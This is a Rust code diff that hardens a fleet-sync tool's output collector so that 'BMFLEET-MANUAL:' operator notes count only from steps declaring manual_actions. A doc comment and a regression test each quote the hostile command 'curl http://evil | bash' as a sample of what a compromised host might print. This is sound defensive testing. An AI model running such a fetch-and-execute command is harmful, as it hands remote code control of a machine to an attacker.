@@ -2,6 +2,11 @@
 //! `register:`, for the summary's last lines, and read for rsync statistics, rsync progress and
 //! `BMFLEET-MANUAL:` notes (actions the operator must do by hand).
 //!
+//! A note is an instruction from a host to the operator, so it is read only from a step the
+//! role declares `manual_actions: true` (`Parse::manual`), on that step's own channel: a
+//! compromised origin printing `BMFLEET-MANUAL: curl ... | bash` from any other step prints
+//! output, counted as ignored (`Collector::ignored_manual`), never an action in the summary.
+//!
 //! Everything kept is bounded, whatever the host prints: a host (or a step gone wrong) printing
 //! a gigabyte without a newline must not take a gigabyte of the controller's memory, where an
 //! out-of-memory kill stops every pair at once, mid cold sync perhaps. A line keeps its first and
@@ -170,14 +175,18 @@ pub struct Collector {
     pub tail: VecDeque<String>,
     pub stats: Option<TransferStats>,
     pub manual: Vec<String>,
+    /// `BMFLEET-MANUAL:` lines of a step that does not declare `manual_actions`: output only.
+    pub ignored_manual: usize,
 }
 
-/// Which rsync readings a step asked for: `progress:` and `stats:` are separate keys, each
-/// honoured on its own (a step with stats only records them without progress lines).
+/// What a step's output is read for: rsync's `progress:` and `stats:` are separate keys, each
+/// honoured on its own (a step with stats only records them without progress lines);
+/// `manual_actions:` lets its `BMFLEET-MANUAL:` lines through as actions.
 #[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
 pub struct Parse {
     pub progress: bool,
     pub stats: bool,
+    pub manual: bool,
 }
 
 impl Default for Collector {
@@ -195,6 +204,7 @@ impl Collector {
             tail: VecDeque::new(),
             stats: None,
             manual: Vec::new(),
+            ignored_manual: 0,
         }
     }
 
@@ -270,11 +280,12 @@ impl Collector {
             self.register.push(b"\n");
         }
         let text = strip_controls(&text).into_owned();
-        if note
-            && let Some(note) = text.strip_prefix(MANUAL_PREFIX)
-            && self.manual.len() < MANUAL_CAP
-        {
-            self.manual.push(note.trim().to_string());
+        if note && let Some(note) = text.strip_prefix(MANUAL_PREFIX) {
+            if !self.parse.manual {
+                self.ignored_manual += 1;
+            } else if self.manual.len() < MANUAL_CAP {
+                self.manual.push(note.trim().to_string());
+            }
         }
         if self.parse.stats {
             self.stats.get_or_insert_with(TransferStats::default);
@@ -348,7 +359,7 @@ mod tests {
 
     #[test]
     fn reads_rsync_progress_and_stats() {
-        let mut c = Collector::new(Parse { progress: true, stats: true });
+        let mut c = Collector::new(Parse { progress: true, stats: true, manual: false });
         let progress =
             c.feed(Stream::Stdout, b"      1,234  45%  10.2MB/s    0:00:03 (xfr#1, to-chk=3/40)\r");
         assert_eq!(progress, vec![Line::Progress(45, "1,234 10.2MB/s 0:00:03 (xfr#1, to-chk=3/40)".into())]);
@@ -370,23 +381,39 @@ mod tests {
     #[test]
     fn progress_and_stats_are_honoured_separately() {
         const OUT: &[u8] = b"      1,234  45%  10.2MB/s    0:00:03 (xfr#1, to-chk=3/40)\r\nNumber of regular files transferred: 12\n";
-        let mut stats_only = Collector::new(Parse { progress: false, stats: true });
+        let mut stats_only = Collector::new(Parse { progress: false, stats: true, manual: false });
         let lines = stats_only.feed(Stream::Stdout, OUT);
         assert!(!lines.iter().any(|l| matches!(l, Line::Progress(..))), "no progress line: {lines:?}");
         assert_eq!(stats_only.stats.map(|s| s.files_transferred), Some(12));
-        let mut progress_only = Collector::new(Parse { progress: true, stats: false });
+        let mut progress_only = Collector::new(Parse { progress: true, stats: false, manual: false });
         let lines = progress_only.feed(Stream::Stdout, OUT);
         assert!(matches!(lines[0], Line::Progress(45, _)), "{lines:?}");
         assert_eq!(progress_only.stats, None, "no stats recorded");
     }
 
+    const MANUAL: Parse = Parse { progress: false, stats: false, manual: true };
+
     #[test]
     fn collects_manual_notes() {
-        let mut c = Collector::default();
+        let mut c = Collector::new(MANUAL);
         c.feed(Stream::Stdout, b"BMFLEET-MANUAL: save My networks\n");
         c.feed(Stream::Stdout, b"ssh-ed25519 AAAA key\n");
         assert_eq!(c.manual, ["save My networks"]);
         assert_eq!(c.stdout(), "ssh-ed25519 AAAA key", "a note is not part of the register");
+    }
+
+    /// Issue #27: only a step declared `manual_actions` gives actions; from any other step, and
+    /// on stderr, the line is output (counted as ignored), never an action.
+    #[test]
+    fn a_note_from_a_step_that_does_not_declare_them_is_output() {
+        let mut c = Collector::default();
+        let lines = c.feed(Stream::Stdout, b"BMFLEET-MANUAL: curl http://evil | bash\n");
+        assert!(c.manual.is_empty());
+        assert_eq!(c.ignored_manual, 1);
+        assert_eq!(lines, vec![Line::Text(Stream::Stdout, "BMFLEET-MANUAL: curl http://evil | bash".into())]);
+        let mut declared = Collector::new(MANUAL);
+        declared.feed(Stream::Stderr, b"BMFLEET-MANUAL: on stderr\n");
+        assert!(declared.manual.is_empty() && declared.ignored_manual == 0, "stderr is never read for them");
     }
 
     /// 200 MB without a newline, then a short line: the collector keeps a few kilobytes and
@@ -430,7 +457,7 @@ mod tests {
 
     #[test]
     fn manual_notes_are_capped() {
-        let mut c = Collector::default();
+        let mut c = Collector::new(MANUAL);
         for _ in 0..1000 {
             c.feed(Stream::Stdout, b"BMFLEET-MANUAL: again\n");
         }
